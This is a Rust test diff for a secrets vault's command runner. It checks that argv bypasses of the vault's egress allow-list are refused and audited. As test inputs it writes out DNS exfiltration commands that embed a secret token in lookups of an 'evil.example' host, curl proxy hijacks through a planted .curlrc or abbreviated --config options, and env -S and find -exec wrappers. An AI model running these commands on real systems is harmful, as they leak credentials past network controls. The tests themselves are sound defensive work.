@@ -995,3 +995,302 @@ fn generic_scan_never_ends_a_url_before_its_authority_does() {
         refused_run(&v, &server, &marker, &["python3", "-c", &code, url]);
     }
 }
+
+// ---------------------------------------------------------------------------------------
+// Issue 15: argv bypasses, each through the built binary with real clients or shims
+
+/// `vault run` headless with `dir` first on PATH (shims for tools that may be missing).
+fn run_with_path(v: &Vault, dir: &Path, argv: &[&str]) -> Command {
+    let mut std = v.std_cmd();
+    let path = std::env::var_os("PATH").unwrap_or_default();
+    let mut full = dir.as_os_str().to_owned();
+    full.push(":");
+    full.push(path);
+    std.env("PATH", full);
+    std.arg("run").arg("--").args(argv);
+    without_terminal(&mut std);
+    wrap(std)
+}
+
+/// A directory of shims: each named program touches `marker` and exits 0.
+fn shims(v: &Vault, names: &[&str], marker: &Path) -> std::path::PathBuf {
+    use std::os::unix::fs::PermissionsExt as _;
+    let dir = v.path("shims");
+    fs::create_dir_all(&dir).expect("shim dir");
+    for name in names {
+        let p = dir.join(name);
+        fs::write(&p, format!("#!/bin/sh\ntouch '{}'\n", marker.display())).expect("shim");
+        fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).expect("chmod shim");
+    }
+    dir
+}
+
+/// The last audit entry, parsed.
+fn last_audit(v: &Vault) -> serde_json::Value {
+    let log = fs::read_to_string(v.home.join("audit.jsonl")).expect("audit.jsonl");
+    let line = log.lines().last().expect("an audit entry");
+    serde_json::from_str(line).expect("audit JSON")
+}
+
+fn require_tool(tool: &str) -> bool {
+    let found = StdCommand::new("sh")
+        .args(["-c", &format!("command -v {tool}")])
+        .output()
+        .is_ok_and(|o| o.status.success());
+    assert!(
+        found || std::env::var_os("CI").is_none_or(|v| v != "true"),
+        "{tool} is required in CI"
+    );
+    if !found {
+        eprintln!("skipping: {tool} is not installed");
+    }
+    found
+}
+
+/// `env -S` with GNU's `\_` escape hid curl's URL: the run was allowed with "no
+/// destination in argv" and curl reached the server. Now the string is split as env
+/// splits it, the URL is found and judged: refused (77), audited, nothing connects.
+#[test]
+fn env_split_string_escapes_are_followed() {
+    if !require_tool("curl") {
+        return;
+    }
+    let server = Server::start();
+    let v = vault_with(&["--allow", "api.example.com"]);
+    for split in [
+        format!("curl\\_-sS\\_http://127.0.0.1:{}/", server.port()),
+        format!("curl\\t-sS\\thttp://127.0.0.1:{}/", server.port()),
+        format!("curl \"http://127.0.0.1:{}/\"", server.port()),
+    ] {
+        let marker = v.path("never");
+        let err = refused_run(&v, &server, &marker, &["env", "-S", &split]);
+        assert!(err.contains("127.0.0.1"), "{split}: {err}");
+        let entry = last_audit(&v);
+        assert_eq!(entry["action"], "deny", "{entry}");
+        assert!(entry["decision"]["deny"].is_array(), "{entry}");
+    }
+    // An escape GNU env refuses is refused as unknown, not guessed.
+    let err = refused_run(&v, &server, &v.path("never"), &["env", "-S", "curl\\qx"]);
+    assert!(err.contains("env -S"), "{err}");
+    assert_eq!(last_audit(&v)["action"], "deny");
+}
+
+/// `find -exec`/`-execdir`/`-ok` run their command: a schemeless `localhost:PORT` that
+/// the generic scan does not take for a host is now curl's destination and judged.
+#[test]
+fn find_exec_is_recursed_into() {
+    if !require_tool("curl") || !require_tool("find") {
+        return;
+    }
+    let server = Server::start();
+    let v = vault_with(&["--allow", "api.example.com"]);
+    let target = format!("localhost:{}", server.port());
+    for action in ["-exec", "-execdir"] {
+        let err = refused_run(
+            &v,
+            &server,
+            &v.path("never"),
+            &[
+                "find",
+                ".",
+                "-maxdepth",
+                "0",
+                action,
+                "curl",
+                "-s",
+                &target,
+                ";",
+            ],
+        );
+        assert!(err.contains("localhost"), "{action}: {err}");
+        assert_eq!(last_audit(&v)["action"], "deny");
+    }
+}
+
+/// DNS tools send the name they look up: a name built from a placeholder or a variable
+/// is refused before the tool starts (shims stand in for dig/nslookup/host/ping).
+#[test]
+fn dns_tools_names_are_destinations() {
+    let server = Server::start();
+    let v = vault_with(&["--allow", "*"]);
+    let marker = v.path("dns-ran");
+    let dir = shims(&v, &["dig", "nslookup", "host", "ping"], &marker);
+    let cases: Vec<Vec<&str>> = vec![
+        vec!["dig", "{{secure.TOKEN}}.evil.example"],
+        vec!["nslookup", "{{secure.TOKEN}}.evil.example"],
+        vec!["host", "{{secure.TOKEN}}.evil.example"],
+        vec!["ping", "-c", "1", "{{secure.TOKEN}}.evil.example"],
+        vec!["sh", "-c", "nslookup \"$TOKEN.evil.example\""],
+        vec!["sh", "-c", "dig +short \"${TOKEN}.evil.example\""],
+    ];
+    for argv in &cases {
+        let connections = server.connections();
+        let err = v.refuses(&mut run_with_path(&v, &dir, argv), DENIED);
+        assert!(err.contains("cannot be checked"), "{argv:?}: {err}");
+        assert!(!marker.exists(), "{argv:?}: the DNS tool ran");
+        assert_eq!(server.connections(), connections);
+        assert_no_leak(err.as_bytes(), VALUE.as_bytes());
+        let entry = last_audit(&v);
+        assert_eq!(entry["action"], "deny", "{entry}");
+        assert!(entry["decision"]["refused"].is_string(), "{entry}");
+        assert_no_leak(entry.to_string().as_bytes(), VALUE.as_bytes());
+    }
+    // The value itself typed as a label is refused too, and never echoed or audited.
+    let literal = format!("{VALUE}.evil.example");
+    let err = v.refuses(&mut run_with_path(&v, &dir, &["dig", &literal]), DENIED);
+    assert!(!marker.exists(), "dig ran with the value as a label");
+    assert_no_leak(err.as_bytes(), VALUE.as_bytes());
+    assert_no_leak(
+        &fs::read(v.home.join("audit.jsonl")).expect("audit"),
+        VALUE.as_bytes(),
+    );
+    // A plain name is a destination the policy judges: allowed here, so the tool runs.
+    v.ok(&mut run_with_path(&v, &dir, &["dig", "example.com"]));
+    assert!(marker.exists(), "an allowed dig did not run");
+}
+
+/// `env HOME=DIR curl …`: a `.curlrc` in DIR sends the request through a proxy the
+/// policy does not allow. Any inline assignment of a variable clients read as
+/// configuration is refused, through env, sh -c and wrappers.
+#[test]
+fn inline_configuration_variables_are_refused() {
+    if !require_tool("curl") {
+        return;
+    }
+    let allowed = Server::start();
+    let proxy = Server::start();
+    let v = vault_with(&["--allow", &format!("127.0.0.1:{}", allowed.port())]);
+    let home = v.path("evil-home");
+    fs::create_dir_all(home.join(".config")).expect("evil home");
+    let curlrc = format!("proxy = \"http://127.0.0.1:{}\"\n", proxy.port());
+    fs::write(home.join(".curlrc"), &curlrc).expect(".curlrc");
+    fs::write(home.join(".config/.curlrc"), &curlrc).expect("xdg .curlrc");
+    let url = format!("http://127.0.0.1:{}/", allowed.port());
+    let set_home = format!("HOME={}", home.display());
+    let set_xdg = format!("XDG_CONFIG_HOME={}", home.join(".config").display());
+    let script = format!("{set_home} curl -s {url}");
+    let exported = format!("export {set_home}; curl -s {url}");
+    let cases: Vec<Vec<&str>> = vec![
+        vec!["env", &set_home, "curl", "-s", &url],
+        vec!["env", &set_xdg, "curl", "-s", &url],
+        vec![&set_home, "curl", "-s", &url],
+        vec!["nice", "env", &set_home, "curl", "-s", &url],
+        vec!["sh", "-c", &script],
+        vec!["sh", "-c", &exported],
+    ];
+    for argv in &cases {
+        let err = refused_run(&v, &proxy, &v.path("never"), argv);
+        assert!(err.contains("set inline"), "{argv:?}: {err}");
+        assert_eq!(last_audit(&v)["action"], "deny");
+    }
+    assert_eq!(allowed.connections(), 0);
+    // Without the assignment, the same run is allowed and reaches the allowed server only.
+    let mut std = v.std_cmd();
+    std.env("HOME", v.path("plain-home"))
+        .args(["run", "--", "curl", "-s", &url]);
+    without_terminal(&mut std);
+    v.ok(&mut wrap(std));
+    assert_eq!(allowed.connections(), 1);
+    assert_eq!(proxy.connections(), 0);
+}
+
+/// curl up to 8.5 takes any unique prefix of a long option, in any case: `--conf FILE`
+/// is `--config FILE` (a file that can set a proxy), `--location-t` is
+/// `--location-trusted`. Each is refused as the option it abbreviates.
+#[test]
+fn curl_abbreviated_options_are_the_options_they_abbreviate() {
+    if !require_tool("curl") {
+        return;
+    }
+    let allowed = Server::start();
+    let proxy = Server::start();
+    let v = vault_with(&["--allow", &format!("127.0.0.1:{}", allowed.port())]);
+    let config = v.path("curl.cfg");
+    fs::write(
+        &config,
+        format!("proxy = \"http://127.0.0.1:{}\"\n", proxy.port()),
+    )
+    .expect("cfg");
+    let config = config.display().to_string();
+    let url = format!("http://127.0.0.1:{}/", allowed.port());
+    let cases: Vec<Vec<&str>> = vec![
+        vec!["curl", "-q", "-s", "--conf", &config, &url],
+        vec!["curl", "-q", "-s", "--CONFIG", &config, &url],
+        vec!["curl", "-q", "-s", "--location-t", &url],
+        vec!["curl", "-q", "-s", "--LOCATION-TRUSTED", &url],
+    ];
+    for argv in &cases {
+        let err = refused_run(&v, &proxy, &v.path("never"), argv);
+        assert!(err.contains("cannot be checked"), "{argv:?}: {err}");
+        assert_eq!(last_audit(&v)["action"], "deny");
+    }
+    assert_eq!(allowed.connections(), 0);
+}
+
+/// Every reserved name added by rule is refused at `set` (65, store unchanged), and a
+/// store that already holds one (an older vault, a hand edit) refuses to inject it at
+/// `vault run` with one line, while `list` still shows it.
+#[test]
+fn reserved_names_are_refused_at_set_and_at_injection() {
+    let v = vault_with(&[]);
+    for name in [
+        "KUBECONFIG",
+        "https_proxy",
+        "XDG_CONFIG_HOME",
+        "PS0",
+        "SSLKEYLOGFILE",
+        "GIT_TRACE_CURL",
+        "HOME",
+        "NODE_TLS_REJECT_UNAUTHORIZED",
+        "DOCKER_HOST",
+        "GIT_EDITOR",
+        "NO_PROXY",
+        "GIT_EXTERNAL_DIFF",
+        "PYTHONSTARTUP",
+        "GIT_SSL_NO_VERIFY",
+        "PS3",
+        "GIT_TEMPLATE_DIR",
+        "GIT_ASKPASS",
+    ] {
+        let err = v.refuses(
+            v.cmd()
+                .args(["set", name])
+                .write_stdin("valid-value-0123456789\n"),
+            DATA_ERR,
+        );
+        assert!(err.contains("refusing secret name"), "{name}: {err}");
+    }
+    // A store written by an older vault: rename TOKEN to KUBECONFIG by hand.
+    let mut contents = v.decrypt_store();
+    let secrets = contents["secrets"].as_object_mut().expect("secrets map");
+    let entry = secrets.remove("TOKEN").expect("TOKEN");
+    secrets.insert("KUBECONFIG".to_string(), entry);
+    let recipient: age::x25519::Recipient = v.fixture.recipient.parse().expect("recipient");
+    let encryptor =
+        age::Encryptor::with_recipients(std::iter::once(&recipient as &dyn age::Recipient))
+            .expect("encryptor");
+    let mut sealed = Vec::new();
+    let mut w = encryptor.wrap_output(&mut sealed).expect("wrap");
+    w.write_all(contents.to_string().as_bytes()).expect("write");
+    w.finish().expect("finish");
+    fs::write(v.store(), &sealed).expect("write the hand-made store");
+    assert_eq!(v.list_names(), vec!["KUBECONFIG".to_string()]);
+    let marker = v.path("ran");
+    for argv in [
+        vec!["sh", "-c", &marked(&marker, "true")],
+        vec!["sh", "-c", &marked(&marker, "echo {{secure.KUBECONFIG}}")],
+    ] {
+        let err = v.refuses(&mut run(&v, &argv), DATA_ERR);
+        assert!(err.contains("KUBECONFIG"), "{err}");
+        assert!(
+            !marker.exists(),
+            "the child started with a reserved name injected"
+        );
+        assert_no_leak(err.as_bytes(), VALUE.as_bytes());
+    }
+    // It can still be removed, after which runs work again.
+    v.ok(v.cmd().args(["rm", "KUBECONFIG"]));
+    assert!(v.list_names().is_empty());
+    v.ok(&mut run(&v, &["sh", "-c", &marked(&marker, "true")]));
+    assert!(marker.exists());
+}
